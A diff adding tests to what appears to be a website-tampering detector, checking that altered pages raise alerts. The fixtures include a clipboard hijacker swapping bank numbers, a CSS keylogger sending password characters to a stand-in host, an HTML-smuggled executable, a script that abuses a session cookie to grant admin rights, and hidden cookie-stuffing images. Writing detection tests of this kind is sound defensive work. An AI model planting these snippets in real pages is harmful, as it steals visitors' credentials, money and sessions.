@@ -208,4 +208,84 @@ describe("destinations: search engines and the clipboard", () => {
     const clipper = `<script>document.addEventListener("copy",function(e){var t=String(window.getSelection());if(/^GB\\d{2}/.test(t)){e.clipboardData.setData("text/plain","GB33BUKB20201555555555");e.preventDefault()}})</script>`
     expect(verdictOf(page({ seed: 5, body: clipper })).findings.find((f) => f.check === "script_copy_hijack")).toMatchObject({ severity: "high", breach: true })
   })
+
+  it("every srcset candidate is a reference: an image swapped through srcset, its src kept, alerts", () => {
+    const v = verdictOf(page({ seed: 5, body: `<img src="/img/loaf.jpg" srcset="https://img-cdn.click/a/owned-480.png 480w, https://img-cdn.click/a/owned-1200.png 1200w" alt="Our loaf">` }))
+    expect(breaches(v)).toContain("destinations/image_new_domain")
+    const own = verdictOf(page({ seed: 5, body: `<img src="/img/loaf.jpg" srcset="/img/loaf-480.jpg 480w, /img/loaf-1200.jpg 1200w" alt="Our loaf">` }))
+    expect(own.alert).toBe(false)
+  })
+
+  it("CSS that loads addresses by what a form field holds reads what visitors type; a web font from a new domain redraws the page", () => {
+    const keys = "abc".split("").map((c) => `input[name="password"][value$="${c}"]{background:url(https://pix-track.icu/k?c=${c})}`).join("")
+    const css = verdictOf(page({ seed: 5, head: `<style>${keys}</style>` }))
+    expect(css.findings.filter((f) => f.check === "style_reads_input")).toHaveLength(1)
+    expect(breaches(css)).toContain("destinations/style_reads_input")
+    const font = verdictOf(page({ seed: 5, head: `<style>@font-face{font-family:"Contact";src:url(https://fnt-host.cyou/c.woff2) format("woff2")}a[href^="tel:"]{font-family:"Contact"}</style>` }))
+    expect(breaches(font)).toContain("destinations/style_new_domain")
+    const google = verdictOf(page({ seed: 5, head: `<style>@font-face{font-family:"Lato";src:url(https://fonts.gstatic.com/s/lato/v24/x.woff2) format("woff2")}</style>` }))
+    expect(google.alert).toBe(false)
+  })
+
+  it("a new link that asks visitors to pay on a new domain, or to install a browser extension, alerts", () => {
+    const fine = verdictOf(page({ seed: 5, body: `<p>Parking charge outstanding: £35. <a href="https://parking-notice.top/p?r=88">Pay now</a></p>` }))
+    expect(breaches(fine)).toContain("destinations/link_payment")
+    const shop = verdictOf(page({ seed: 5, body: `<p><a href="https://www.paypal.com/donate?hosted_button_id=X">Pay now</a></p>` }))
+    expect(checks(shop)).not.toContain("destinations/link_payment")
+    const ext = verdictOf(page({ seed: 5, body: `<p>This video needs a player: <a href="https://chromewebstore.google.com/detail/video-player-hd/abcdefghijklmnop">Add to Chrome</a></p>` }))
+    expect(breaches(ext)).toContain("destinations/extension_install")
+  })
+
+  it("a file carried inside the page for visitors to save (HTML smuggling) alerts; one the samples had does not", () => {
+    const smuggled = verdictOf(page({ seed: 5, body: `<a href="data:application/octet-stream;base64,TVqQAAMAAAAEAAAA" download="Invoice-2231.js">Your invoice</a>` }))
+    expect(breaches(smuggled)).toContain("destinations/download_embedded")
+    const csv = verdictOf(page({ seed: 5, body: `<a href="data:text/csv;charset=utf-8,a,b" download="prices.csv">Price list</a>` }))
+    expect(checks(csv)).not.toContain("destinations/download_embedded")
+  })
+
+  it("a bucket on shared object storage is its own site: a script from a new bucket alerts", () => {
+    const v = verdictOf(page({ seed: 5, body: `<script src="https://storage.googleapis.com/jquery-cdn-77/jquery.min.js"></script>` }))
+    expect(v.findings.find((f) => f.check === "script_new_domain")).toMatchObject({ severity: "high", breach: true })
+    expect(v.findings.find((f) => f.check === "script_new_domain")!.message).toContain("storage.googleapis.com/jquery-cdn-77")
+  })
+
+  it("a sign-up form moved to an e-mail service is a vendor change; a login form moved there is not", () => {
+    const signup = `<form action="/subscribe"><input type="email" name="email"><button>Join</button></form>`
+    const base = baselineOf(samples((seed) => page({ seed, body: signup })))
+    const moved = verdictOf(page({ seed: 5, body: signup.replace("/subscribe", "https://app.kit.com/forms/123/subscriptions") }), base)
+    expect(moved.alert).toBe(false)
+    expect(checks(moved)).toContain("destinations/form_provider")
+    const login = `<form action="/login"><input name="user"><input type="password" name="password"></form>`
+    const lbase = baselineOf(samples((seed) => page({ seed, body: login })))
+    expect(breaches(verdictOf(page({ seed: 5, body: login.replace("/login", "https://app.kit.com/forms/123") }), lbase))).toContain("destinations/form_retargeted")
+  })
+
+  it("a new inline script that reads the visitor's cookies and sends requests that change something alerts", () => {
+    const v = verdictOf(page({ seed: 5, body: `<script>if(document.cookie.indexOf("session")>-1){fetch("/admin/users",{method:"POST",body:"role=admin&user=x"})}</script>` }))
+    expect(breaches(v)).toContain("destinations/script_session_request")
+    const theme = verdictOf(page({ seed: 5, body: `<script>document.cookie="theme=dark; path=/";fetch("/api/ping",{method:"POST"})</script>` }))
+    expect(checks(theme)).not.toContain("destinations/script_session_request")
+  })
+
+  it("a hidden image or frame that opens an affiliate link for every visitor alerts (cookie stuffing); a visible affiliate link does not", () => {
+    const stuffed = verdictOf(page({ seed: 5, body: `<img src="https://www.amazon.co.uk/?tag=crew-21" width="1" height="1" style="display:none">` }))
+    expect(breaches(stuffed)).toContain("destinations/hidden_affiliate")
+    const visible = verdictOf(page({ seed: 5, main: `<p>We use <a href="https://www.amazon.co.uk/dp/B000?tag=harbour-21">this flour</a>.</p>` }))
+    expect(checks(visible)).not.toContain("destinations/hidden_affiliate")
+  })
+
+  it("an element hidden by its own style loads hidden: a hidden frame is not a visible one", () => {
+    const v = verdictOf(page({ seed: 5, body: `<iframe src="https://frame-host.top/x" width="0" height="0" style="visibility:hidden"></iframe>` }))
+    expect(breaches(v)).toContain("destinations/frame_new_domain")
+    const img = verdictOf(page({ seed: 5, body: `<img src="https://pix-host.top/p.gif" style="display:none">` }))
+    expect(img.findings.find((f) => f.check === "image_new_domain")).toMatchObject({ severity: "medium" })
+  })
+
+  it("a new archive or program to download on the page's own site is a sign; one link of a vice term to a new site is spam", () => {
+    const own = verdictOf(page({ seed: 5, main: `<p>Get the files: <a href="/uploads/templates_free.zip">templates_free.zip</a></p>` }))
+    expect(own.findings.find((f) => f.check === "download_own_site")).toMatchObject({ severity: "medium" })
+    const essays = verdictOf(page({ seed: 5, body: `<ul><li><a href="https://essay-mill.pro/">Buy Essays Online</a></li></ul>` }))
+    expect(breaches(essays)).toContain("destinations/spam_links")
+  })
 })
+
